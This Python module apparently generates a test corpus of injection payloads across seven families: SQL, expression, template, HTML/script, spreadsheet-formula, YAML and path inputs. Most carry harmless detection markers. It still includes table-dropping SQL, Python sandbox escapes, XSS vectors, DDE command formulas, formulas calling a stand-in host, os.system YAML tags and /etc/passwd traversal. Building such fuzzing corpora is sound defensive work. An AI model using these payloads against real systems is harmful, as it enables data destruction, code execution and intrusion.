"""Hostile texts by family, each made of parts: what breaks out of its place and what would be done then."""

from __future__ import annotations

import itertools
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from random import Random

MARK = "zqhit"
"""Names what a payload would make if it got through: a tag, an attribute, a header, a function."""
FACTORS = (48271, 16807)
DONE = str(FACTORS[0] * FACTORS[1])
"""What stands in an answer when a template has been carried out; no payload holds it."""
_PRODUCT = "*".join(map(str, FACTORS))


@dataclass(frozen=True, slots=True)
class Payload:
    family: str
    text: str


def _sql() -> Iterator[str]:
    breaks = ("'", '"', "')", '")', "'))", "`", "\\'", "';", "1", "1)", "%'", "' ", "\u02bc", "\uff07", "''", "]")
    acts = (
        " OR 1=1--",
        " OR '1'='1",
        " UNION SELECT NULL,NULL--",
        " UNION ALL SELECT hash FROM _account--",
        "; DROP TABLE _event;--",
        "; DELETE FROM _account;--",
        "; UPDATE _account SET hash='x'--",
        " AND (SELECT count(*) FROM pg_sleep(9))>0--",
        "||(SELECT version())||'",
        " AND 1=CAST((SELECT name FROM sqlite_master) AS int)--",
        "/**/OR/**/1=1#",
        "; ATTACH DATABASE 'x' AS y;--",
        "; COPY _account TO PROGRAM 'id';--",
        " ORDER BY 99--",
        " LIMIT 1 OFFSET 0;--",
    )
    yield from (first + second for first, second in itertools.product(breaks, acts))
    yield from (
        "%s",
        "%(p0)s",
        ":p0",
        "?",
        "$1",
        "{p0}",
        "%%",
        "p0",
        "\\x27",
        "%27",
        "E'\\047'",
        "$$x$$",
        "--",
        "/*",
        "';",
    )


def _expressions() -> Iterator[str]:
    yield from (f"{name}.{end}" for name in ("name", "$user", "''", "id", "$now") for end in _PYTHON)
    yield from (f"{call}({given})" for call in _CALLS for given in ("'id'", "name", "", "open", "1, 2"))
    yield from (f"name {op} '{right}'" for op in _OPERATORS for right in ("(a+)+$", "x", ".*"))
    yield from (
        f"{low}{op}{high}" for op in ("**", "<<", "//", "^") for low in ("9", "name") for high in ("9**9", "99999")
    )
    yield from (
        opening * 400 + "1" + closing * 400 for opening, closing in (("(", ")"), ("[", "]"), ("-", ""), ("not ", ""))
    )
    yield from ("name == " + "'" + "x" * 5_000 + "'", "1" + "+1" * 2_000, " or ".join(["name == 'x'"] * 600))
    yield from (
        f"name in [{', '.join(['1'] * 2_000)}]",
        "$user.$user",
        "$env",
        "$builtins",
        "${name}",
        "@name",
        "#name",
    )
    yield from (
        "[x for x in name]",
        "{1: 2}",
        "{1}",
        "x = 1",
        "lambda: 1",
        "name[0]",
        "name[0:9]",
        "/name/",
        "f'{name}'",
    )
    yield from (
        "d'2026-01-01' > name",
        "t'P1D'",
        "b'x'",
        "0x10 == 1",
        "1e999999 == 1",
        "inf == 1",
        "nan == nan",
        "1_0 == 1",
    )
    yield from (
        "name == 'a",
        "name == 'a\\",
        "name == '\\u00'",
        "name == '\\ud800'",
        "name ==",
        "== name",
        "and",
        "()",
        ",",
        "",
    )
    yield from ("name\x00", "name\u202e == 1", "na\u0000me == 'x'", "null < null", "name == null == null", "$now $now")
    yield from (f"count(name, {inner})" for inner in ("1", "count(name)", "any(name, any(name))", "__import__('os')"))
    yield from ("if(" * 300 + "true" + ", 1, 2)" * 300, "name ? " * 300 + "1" + " : 2" * 300, "abs(" * 600)


_PYTHON = (
    "__class__", "__class__.__mro__", "__init__.__globals__", "__import__('os')", "__subclasses__()", "format('{0}')",
    "__dict__", "func_globals", "gi_frame", "mro", "__reduce__", "__builtins__.eval", "encode('idna')", "zfill(9)",
)  # fmt: skip
_CALLS = (
    "__import__", "eval", "exec", "open", "compile", "getattr", "globals", "vars", "type", "print", "pg_sleep",
    "load_file", "readfile", "system", "lambda", "map", "range", "sleep", "random", "split", "regex",
    "load_extension", "randomblob",
)  # fmt: skip
_OPERATORS = ("=~", "=~~", "!~", "!~~", "like", "~", "is", "===", "<>", ":=", "&", "|", "xor", "&&", "||", "->", "=>")


def _templates() -> Iterator[str]:
    marks = (
        "{{%s}}",
        "${%s}",
        "#{%s}",
        "<%%= %s %%>",
        "{%%print(%s)%%}",
        "@(%s)",
        "[[%s]]",
        "{%s}",
        "{{= %s }}",
        "*{%s}",
    )
    inner = (
        _PRODUCT,
        f"''.__class__.__mro__[1].__subclasses__()|length and {_PRODUCT}",
        f"cycler.__init__.__globals__ and {_PRODUCT}",
        f"config.items() and {_PRODUCT}",
        f"self.__init__.__globals__.__builtins__ and {_PRODUCT}",
        f"request.application.__globals__ and {_PRODUCT}",
        f"(1).constructor.constructor('return {_PRODUCT}')()",
        f"T(java.lang.Runtime) + {_PRODUCT}",
    )
    around = ("%s", "x%s", "\n%s\n", "%s}}", "{{'%s'}}", "{%% raw %%}%s", "{#%s#}")
    for mark, each, place in itertools.product(marks, inner, around):
        yield place.replace("%s", mark.replace("%s", each).replace("%%", "%")).replace("%%", "%")
    yield from (
        "{% include '/etc/passwd' %}",
        "{% extends x %}",
        "{{",
        "}}",
        "{%",
        "%}",
        "{#",
        "%(x)s",
        "{0.__class__}",
        "{x!r}",
    )


def _scripts() -> Iterator[str]:
    breaks = (
        "",
        '">',
        "'>",
        "</title>",
        "</textarea>",
        "</script>",
        "-->",
        "</style>",
        "</select>",
        "]]>",
        '"/>',
        '\\">',
    )
    tags = (
        f"<{MARK}>",
        f"<script>{MARK}()</script>",
        f"<img src=x onerror={MARK}()>",
        f"<svg/onload={MARK}()>",
        f"<svg><animate onbegin={MARK}() attributeName=x>",
        f"<a href=javascript:{MARK}()>x</a>",
        f"<a href='java\tscript:{MARK}()'>x</a>",
        f"<iframe srcdoc='<script>{MARK}()</script>'></iframe>",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={MARK}()&gt;'>",
        f"<form action=javascript:{MARK}()><button>x</button></form>",
        f"<base href=//{MARK}.example/>",
        f"<meta http-equiv=refresh content='0;url=javascript:{MARK}()'>",
        f"<link rel=stylesheet href=//{MARK}.example/x>",
        f"<div style='background:url(//{MARK}.example)'>x</div>",
        f"<object data=javascript:{MARK}()></object>",
        f"<details open ontoggle={MARK}()>x</details>",
        f"<input autofocus onfocus={MARK}()>",
        f"<p hx-get=/x hx-trigger=load hx-on:load={MARK}() {MARK}=1>x</p>",
        f"<p x-data x-init={MARK}() {MARK}=1>x</p>",
        f"<template><{MARK}></template>",
    )
    yield from (first + second for first, second in itertools.product(breaks, tags))
    yield from (
        f'" {event}={MARK}() x="' for event in ("onfocus", "onmouseover", "onerror", "autofocus onfocus", "onclick")
    )
    yield from (f"' {event}={MARK}() x='" for event in ("onfocus", "onmouseover", "onerror", "x-on:click", "@click"))
    yield from (
        f"javascript:{MARK}()",
        f"data:text/html,<{MARK}>",
        f"vbscript:{MARK}()",
        f"JaVaScRiPt:{MARK}()",
        f"//{MARK}.example",
    )
    yield from (
        f"&lt;{MARK}&gt;",
        f"%3C{MARK}%3E",
        f"\\u003c{MARK}\\u003e",
        f"\uff1c{MARK}\uff1e",
        f"<\x00{MARK}>",
        f"+ADw-{MARK}+AD4-",
    )


def _formulas() -> Iterator[str]:
    begins = (
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        " =",
        "'=",
        '"=',
        "=+",
        "-+",
        "\uff1d",
        "\uff0b",
        ";=",
        ",=",
        "|",
        "\u200b=",
    )
    acts = (
        f"cmd|' /C {MARK}'!A0",
        f'HYPERLINK("http://{MARK}.example","x")',
        f'IMPORTXML("http://{MARK}.example","//a")',
        f'WEBSERVICE("http://{MARK}.example")',
        "SUM(1+1)*cmd|'/C calc'!A0",
        "1+1",
        "A1",
        f'DDE("{MARK}";"x")',
    )
    yield from (first + second for first, second in itertools.product(begins, acts))


def _yaml() -> Iterator[str]:
    tags = (
        "!!python/object/apply:os.system", "!!python/name:os.system", "!!python/module:os",
        "!!python/object/new:os.system", "!!binary", "!!set", "!!timestamp", "!!omap", "!foo", "!<tag:x>", "!!merge",
        "!!map", "!!str",
    )  # fmt: skip
    yield from (f"{tag} {given}" for tag in tags for given in (f"['{MARK}']", "{}", "x", "[]"))
    yield from (f"&a [{'x, ' * count}*a]" for count in (0, 1, 9))
    yield "a: &a [x]\nb: &b [*a, *a]\nc: &c [*b, *b]\nd: [*c, *c]"
    yield from (
        "<<: {a: b}",
        "a: 1\na: 2",
        "? {a: b}\n: c",
        "%YAML 1.1\n---\nno",
        "---\na\n---\nb",
        "a: b: c",
        "- - - -",
        "\tx: y",
        "x: |\n y\n\tz",
    )
    yield from (
        "[" * 400 + "]" * 400,
        "{a: " * 400 + "}" * 400,
        "x: " + "y" * 100_000,
        "no",
        "010",
        "1:30",
        "0x1F",
        "1e999",
        ".inf",
        "~",
        "=",
        "<<",
    )
    yield from (
        "\ufeffx: y",
        "x: \x07",
        "x: '\\ud800'",
        'x: "\\ud800"',
        "x: \u2028y",
        "x: #{1}",
        "@x",
        "`x",
        "%x",
        "|",
        ">",
        "x: *unknown",
    )


def _paths() -> Iterator[str]:
    steps = (
        "../",
        "..\\",
        "%2e%2e/",
        "..%2f",
        "%252e%252e%252f",
        "....//",
        "..;/",
        "/",
        "//",
        "\\\\",
        "C:\\",
        "file:///",
        "./",
        "~/",
        "..%c0%af",
        "\u2025/",
    )
    ends = (
        "etc/passwd",
        "etc/passwd%00.png",
        "etc/passwd\x00.png",
        "var/directory.db",
        "manifest.json",
        "proc/self/environ",
        "",
        "con",
        "x" * 300,
    )
    yield from (step * times + end for step, end, times in itertools.product(steps, ends, (1, 6)))
    yield from (
        f"x\r\nX-{MARK}: 1",
        f"x\nX-{MARK}: 1",
        f"x%0d%0aX-{MARK}: 1",
        f'x"; filename="{MARK}.html',
        "x;.html",
        ".",
        "..",
        "...",
        "-",
        "aux",
        "nul",
        "x.",
        "x ",
        "\u202egnp.exe",
        "x" * 5_000,
    )


FAMILIES: Mapping[str, Callable[[], Iterator[str]]] = {
    "sql": _sql,
    "expressions": _expressions,
    "templates": _templates,
    "scripts": _scripts,
    "formulas": _formulas,
    "yaml": _yaml,
    "paths": _paths,
}


def corpus(seed: int, count: int | None = None) -> list[Payload]:
    """All payloads in an order of its own for every seed; with `count` as many, of all families alike."""
    random, groups = Random(seed), []
    for family, make in FAMILIES.items():
        group = [Payload(family, text) for text in dict.fromkeys(make())]
        random.shuffle(group)
        groups.append(group)
    mixed = [each for row in itertools.zip_longest(*groups) for each in row if each is not None]
    return mixed if count is None else mixed[:count]
